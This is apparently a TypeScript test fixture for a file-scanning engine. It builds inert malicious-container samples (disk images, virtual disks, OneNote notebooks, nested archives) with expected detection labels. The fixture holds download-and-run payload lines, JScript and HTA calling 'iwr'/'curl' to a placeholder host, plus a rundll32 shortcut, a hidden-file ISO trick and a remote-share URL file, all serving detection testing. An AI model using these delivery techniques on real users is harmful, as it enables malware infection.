/** Containers within containers, and files that open as another type than they seem. All are inert. */
import { cabinet, fatVolume, fixedDisk, partitioned } from '../../engines/static/image-fixture.ts';
import { zipOf } from '../../engines/zip-fixture.ts';
import { HOST, type HostileFile, PROGRAM } from './sample.ts';
import { isoOf, notebookOf, shortcutTo } from './shortcut-fixture.ts';

const shortcut = shortcutTo('..\\..\\Windows\\System32\\rundll32.exe', 'data.dll,Start', 'shell32.dll');
const script = `new ActiveXObject('WScript.Shell').Run('powershell -c iwr ${HOST}/a');`;
const application = `<html><hta:application><script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c curl ${HOST}/a"</script></html>`;
const picture = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');

/** ECMA-119 9.1.6: the flags of an entry stand 8 bytes before its name; the lowest hides it. */
function hidden(image: Buffer, name: string): Buffer {
  image[image.indexOf(name) - 8] = 1;
  return image;
}

export const MORE_CONTAINERS: readonly HostileFile[] = [
  {
    technique: 'disk image: shortcut beside a hidden library',
    name: 'a.iso',
    content: hidden(isoOf({ 'INVOICE.LNK;1': shortcut, 'DATA.DLL;1': PROGRAM }), 'DATA.DLL'),
    level: 'malicious',
    finds: ['disk-image-program', 'shortcut-runs-interpreter'],
  },
  {
    technique: 'virtual disk: shortcut beside a library',
    name: 'b.vhd',
    content: fixedDisk(partitioned(fatVolume({ 'INVOICE.LNK': shortcut, 'DATA.DLL': PROGRAM }))),
    level: 'malicious',
    finds: ['disk-image-program', 'shortcut-runs-interpreter'],
  },
  {
    technique: 'disk image: application of scripts',
    name: 'c.img',
    content: isoOf({ 'ORDER.HTA;1': Buffer.from(application) }),
    level: 'malicious',
    finds: ['disk-image-program', 'code-downloads-and-runs'],
  },
  {
    technique: 'notebook: attachment below a picture',
    name: 'd.one',
    content: notebookOf([picture, Buffer.from(application)], 'Open.hta'),
    level: 'malicious',
    finds: ['onenote-program', 'onenote-embedded-file'],
  },
  {
    technique: 'notebook: shortcut below a picture, in an archive',
    name: 'e.zip',
    content: zipOf({ 'e.one': { content: notebookOf([picture, shortcut], 'x.lnk') } }),
    level: 'malicious',
    finds: ['onenote-program', 'shortcut-runs-interpreter'],
  },
  {
    technique: 'archive in a disk image in an archive',
    name: 'f.zip',
    content: zipOf({ 'f.iso': { content: isoOf({ 'B.ZIP;1': zipOf({ 'order.js': script }) }) } }),
    level: 'suspicious',
    finds: ['disk-image', 'archive-executable', 'code-executes'],
  },
  {
    technique: 'cabinet with a script',
    name: 'g.cab',
    content: cabinet({ 'order.js': Buffer.from(script) }),
    level: 'suspicious',
    finds: ['archive-executable', 'code-executes'],
  },
  {
    technique: 'archive with a spreadsheet add-in',
    name: 'h.zip',
    content: zipOf({ 'prices.xll': { content: PROGRAM } }),
    level: 'suspicious',
    finds: ['archive-executable'],
  },
  {
    technique: 'archive with an address file that leads to a share',
    name: 'i.zip',
    content: zipOf({ 'i.url': '[InternetShortcut]\r\nURL=file://203.0.113.7@80/share/a.exe\r\n' }),
    level: 'suspicious',
    finds: ['shortcut-remote-target'],
  },
];
